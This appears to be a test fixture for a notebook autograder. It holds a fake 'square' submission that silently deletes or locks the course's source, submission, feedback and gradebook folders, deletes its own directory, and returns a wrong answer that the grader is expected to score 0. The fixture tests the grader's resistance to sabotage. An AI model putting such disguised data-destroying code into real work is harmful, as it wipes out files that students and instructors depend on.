# %% [markdown]
# Deletes its folder, the notebook, and the course's folders above it, or takes away the right to read them.
#
# Must: score 0; says 'square(2) gave 7, expected 4'

# %% answer="square"
import contextlib
import os
import shutil
from pathlib import Path

COURSE = ("source", "release", "submitted", "autograded", "feedback", "gradebook.db")


def square(x):
    with contextlib.suppress(OSError):
        for folder in [Path.cwd(), *list(Path.cwd().parents)[:3]]:
            for name in COURSE:
                shutil.rmtree(folder / name, ignore_errors=True)
                with contextlib.suppress(OSError):
                    os.chmod(folder / name, 0)
                with contextlib.suppress(OSError):
                    os.remove(folder / name)
        shutil.rmtree(Path.cwd(), ignore_errors=True)
    return 7
